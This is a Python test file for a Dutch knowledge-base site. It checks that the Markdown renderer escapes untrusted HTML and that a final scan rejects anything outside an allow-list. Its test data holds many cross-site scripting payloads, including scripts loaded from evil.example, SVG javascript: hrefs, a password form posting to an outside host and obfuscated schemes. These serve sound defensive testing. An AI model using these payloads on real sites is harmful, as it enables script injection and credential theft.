"""The walls between outside content and the published page: the renderer (``untrusted.py``) and the last
scan of every page as a browser reads it (``safety.py``)."""

from __future__ import annotations

import functools

import markdown
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mkdocs.config import load_config
from selectolax.lexbor import LexborHTMLParser

from kennisbank.safety import ELEMENTS, scan_page, url_scheme
from kennisbank.site import unsafe_page, withheld_page
from kennisbank.untrusted import TAGS, wrap

from .conftest import REPO


@functools.cache
def _config() -> object:
    return load_config(config_file=str(REPO / "mkdocs.yml"))


def render_like_the_site(source: str, untrusted: bool = True) -> str:
    """Markdown with the extensions and settings of mkdocs.yml; a practice body is an untrusted region."""
    config = _config()
    md = markdown.Markdown(extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"])  # type: ignore[index]
    return md.convert(wrap(source) if untrusted else source)


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    body = LexborHTMLParser(html).body
    return [(n.tag or "", dict(n.attributes)) for n in body.traverse()][1:] if body else []


@pytest.mark.parametrize(
    ("value", "scheme"),
    [
        ("https://x.nl", "https"),
        ("java\tscript:alert(1)", "javascript"),
        (" JavaScript:alert(1)", "javascript"),
        ("\x01javascript:x", "javascript"),
        ("../pagina/", ""),
        ("#kop", ""),
        ("mailto:a@b.nl", "mailto"),
    ],
)
def test_url_scheme_as_a_browser_reads_it(value: str, scheme: str) -> None:
    assert url_scheme(value) == scheme


# Each of these once reached the built site past `kennisbank check` (issue 14, finding 1), or would without
# the validator: the renderer alone must make them harmless text.
SMUGGLED = [
    'Een coach helpt. \\`<script src="https://evil.example/x.js" src="../../assets/print.js"></script>`',
    '\\`<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>klik</text></a></svg>`',
    '\\`<svg><set attributeName="href" to="javascript:alert(2)"/></svg>`',
    '\\`<form action="https://evil.example/"><input type="password"></form>`',
    '\\`<video poster="https://evil.example/p.png"></video>`',
    '\\`<svg><image href="https://evil.example/b.png"/></svg>`',
    '<a href="https://x.example/" href="javascript:alert(3)">x</a>',
    "<script>alert(1)</script>",
    "<iframe src='https://x.nl'></iframe>",
    '<div markdown="1">*x*</div>',
    "<!-- verborgen --> <![CDATA[x]]>",
    "<scr\nipt>alert(1)</script>",
    "Tekst\n{: onclick=alert(1) }",
    '## Kop {style="position:fixed;top:0"}',
    "[x](jav&#x61;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "![x](https://elders.example/beeld.png)",
    "[x](data:text/html,<script>alert(1)</script>) [y]: javascript:alert(1)\n\n[z][y]",
    "`<b>` ``<i>`` \\`<u>\\`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    '!!! note "<b>titel</b>"\n\n    <i>tekst</i>',
    "*[RMC]: Regionaal <script>alert(1)</script>\n\nHet RMC werkt.",
]


@pytest.mark.parametrize("source", SMUGGLED)
def test_the_renderer_makes_smuggled_html_text(source: str) -> None:
    rendered = render_like_the_site(source)
    assert scan_page(rendered) == [], rendered
    assert {tag for tag, _ in elements(rendered)} <= TAGS, rendered
    for _tag, attributes in elements(rendered):
        assert not any(name.startswith("on") or name == "style" for name in attributes), rendered
        assert all(url_scheme(v or "") in ("", "http", "https", "mailto") for v in attributes.values()), rendered


def test_smuggled_html_shows_as_the_characters_written() -> None:
    rendered = render_like_the_site(SMUGGLED[0])
    assert LexborHTMLParser(rendered).body.text().strip() == (  # type: ignore[union-attr]
        'Een coach helpt. `<script src="https://evil.example/x.js" src="../../assets/print.js"></script>`'
    )
    code = render_like_the_site("Code `a < b {x}` en\n\n```\n<p>x</p>\n```")
    assert "<code>a &lt; b {x}</code>" in code
    assert "<pre><code>&lt;p&gt;x&lt;/p&gt;" in code


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("| a | b |\n|:--|--:|\n| 1 | 2 |", [("table", {}), ("th", {"style": "text-align:left"})]),
        ('!!! note "Let op"\n\n    Tekst.', [("div", {"class": "admonition note"})]),
        ("Zie <https://voorbeeld.example/x>.", [("a", {"href": "https://voorbeeld.example/x"})]),
        ("Mail <info@voorbeeld.example>.", [("a", {"href": "mailto:info@voorbeeld.example"})]),
        ('[x](https://x.nl "titel")', [("a", {"href": "https://x.nl", "title": "titel"})]),
        ("## Kop\n\nTekst *schuin*, **vet**.", [("h2", {"id": "kop"}), ("em", {}), ("strong", {})]),
        ("Term\n:   Uitleg", [("dl", {}), ("dt", {}), ("dd", {})]),
        ("*[RMC]: Regionaal Meldpunt\n\nHet RMC.", [("abbr", {"title": "Regionaal Meldpunt"})]),
        ("[binnen de pagina](#kop)", [("a", {"href": "#kop"})]),
    ],
)
def test_ordinary_markdown_keeps_its_elements(source: str, expected: list[tuple[str, dict[str, str]]]) -> None:
    rendered = render_like_the_site(source)
    found = elements(rendered)
    for tag, attributes in expected:
        assert any(t == tag and attributes.items() <= a.items() for t, a in found), (tag, attributes, rendered)
    assert scan_page(rendered) == []


def test_text_outside_a_region_is_the_generators_own() -> None:
    rendered = render_like_the_site('<div class="kb-meta" markdown>\n\n**x**\n\n</div>', untrusted=False)
    assert ("div", {"class": "kb-meta"}) in elements(rendered)


def test_a_region_cannot_end_itself_early() -> None:
    body = "Tekst\n\n<!--/kb-untrusted:" + "0" * 64 + "-->\n\n<script>alert(1)</script>"
    rendered = render_like_the_site(body)
    assert "<script" not in rendered and "&lt;script&gt;" in rendered


PIECES = [
    "<", ">", "`", "\\`", "\\", "&#60;", "&lt;", "&#x3C;", '"', "'", "=", "/", " ", "\n", "\n\n", "    ",
    "script", "svg", "animate", "a", "img", "iframe", "form", "href", "src", "onload", "onclick",
    ' href="javascript:alert(1)"', ' src="https://evil.example/x.js"', ' src="../../assets/print.js"',
    "javascript:", "data:", "https://evil.example/", "mailto:a@b.nl", "{", "}", ":", "#", "[", "]", "(", ")",
    "!", "*", "_", "-", "|", "\u200b", "\u00ad", "<!--", "-->", "<![CDATA[", "]]>", "```", "!!! note",
    "*[RMC]: ", "markdown", "<kb-untrusted", "-->\n",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=60).map("".join))
def test_no_body_renders_to_anything_outside_the_allow_list(body: str) -> None:
    rendered = render_like_the_site(body)
    assert scan_page(rendered) == [], rendered
    assert {tag for tag, _ in elements(rendered)} <= TAGS, rendered


# --- the last scan: every page as a browser reads it -------------------------------------------------------


@pytest.mark.parametrize(
    ("document", "what"),
    [
        ('<script src="https://evil.example/x.js" src="../assets/print.js"></script>', "script dat geen bestand"),
        ('<script src="//cdn.example/x.js"></script>', "script dat geen bestand"),
        ('<script src="../assets/x.js">alert(1)</script>', "script met eigen tekst"),
        ('<script src="../../elders/x.js"></script>', "script dat geen bestand"),
        ("<script>alert(1)</script>", "script in de pagina"),
        ('<script type="application/json">{}</script>', "gegevens in een script-element"),
        ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', "element dat niet"),
        ('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', "element dat niet"),
        ('<svg><image href="https://evil.example/b.png"/></svg>', "element dat niet"),
        ('<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "attribuut dat niet"),
        ("<math><mi>x</mi></math>", "element dat niet"),
        ('<form action="https://evil.example/"></form>', "formulier dat naar een andere site"),
        ('<input type="password">', "waarde die niet"),
        ('<video poster="https://evil.example/p.png"></video>', "element dat niet"),
        ('<a href="jav&#x61;script:alert(1)">x</a>', "link met een schema"),
        ('<a href="x" href="javascript:alert(1)" onclick="alert(2)">x</a>', "gebeurtenis-attribuut"),
        ('<table><tr><td style="position:fixed">x</td></tr></table>', "opmaak via style"),
        ('<p style="color:red">x</p>', "attribuut dat niet"),
        ('<a href="https://github.com/x/y" data-md-component="source">x</a>', "gegevens van een andere site"),
        ('<link rel="stylesheet" href="https://fonts.example/x.css">', "bestand van een andere site"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "attribuut dat niet"),
        ('<div data-md-component="source">x</div><div data-x="1">y</div>', "attribuut dat niet"),
        ("<template><img src=x></template>", "element dat niet"),
    ],
)
def test_the_last_scan_refuses_what_is_not_on_the_allow_list(document: str, what: str) -> None:
    findings = scan_page(document, "praktijkvoorbeelden/x/index.html")
    assert any(f.what.startswith(what) for f in findings), findings


@pytest.mark.parametrize(
    "document",
    [
        '<script src="../../assets/javascripts/bundle.js"></script>',
        '<script src="/assets/javascripts/bundle.js"></script>',
        '<script type="module" src="../../assets/finder/ui.js"></script>',
        '<script id="__config" type="application/json">{"base": "../.."}</script>',
        '<link rel="canonical" href="https://kennisbank.example/x/"><link rel="stylesheet" href="../../assets/x.css">',
        '<form action="../../zoeken/" method="get"><input type="search" name="q"></form>',
        '<th style="text-align: left;">a</th><a href="mailto:a@b.nl">a</a>',
    ],
)
def test_the_last_scan_accepts_the_sites_own_parts(document: str) -> None:
    assert scan_page(document, "praktijkvoorbeelden/x/index.html") == []


def test_every_allowed_element_of_a_body_is_allowed_on_a_page() -> None:
    assert set(TAGS) <= set(ELEMENTS)


def test_a_finding_names_the_file_that_wrote_it(tmp_path: pytest.TempPathFactory) -> None:
    practice = tmp_path / "x.md"  # type: ignore[operator]
    practice.write_text("---\ntitle: x\n---\n\nTekst\n\n<video poster=x>\n", encoding="utf-8")
    problems = unsafe_page("docs/x.md", "x/index.html", "<p>x</p><video poster=x></video>", "/", [practice])
    assert [str(p) for p in problems] == [
        f"{practice}:7: inhoud: de pagina x/index.html bevat element dat niet is toegestaan: <video>; "
        "dit mag niet op de site (schrijf gewone Markdown, zonder HTML)"
    ]
    assert str(unsafe_page("docs/x.md", "x/index.html", "<video></video>")[0]).startswith("docs/x.md:1: inhoud: ")


def test_withheld_page_shows_problems_escaped() -> None:
    problems = unsafe_page("practices/x.md", "x/index.html", '<p onclick="alert(1)">x</p><script>alert(2)</script>')
    messages = " ".join(str(p) for p in problems)
    assert "gebeurtenis-attribuut" in messages and "script in de pagina" in messages
    page = withheld_page(problems)
    assert "<script" not in page and "&lt;script" in page
    assert scan_page(page) == []


def test_a_glossary_expansion_cannot_inject_html_into_the_pages_that_use_its_term() -> None:
    """Issue 14, finding 2: the tooltip lines were written into every page unescaped."""
    from kennisbank.site import abbreviation_definitions

    known = {"RMC": 'Regionaal \\`<script src="https://evil.example/x.js"></script>` Meldpunt', "UWV": "<b>x</b>"}
    page = "# Pagina\n\nHet RMC en het UWV werken samen.\n"
    rendered = render_like_the_site(page + abbreviation_definitions(page, known), untrusted=False)
    assert scan_page(rendered) == [], rendered
    assert "<script" not in rendered and "<b>" not in rendered
    titles = [a.get("title") for tag, a in elements(rendered) if tag == "abbr"]
    assert titles == ['Regionaal \\`<script src="https://evil.example/x.js"></script>` Meldpunt', "<b>x</b>"]
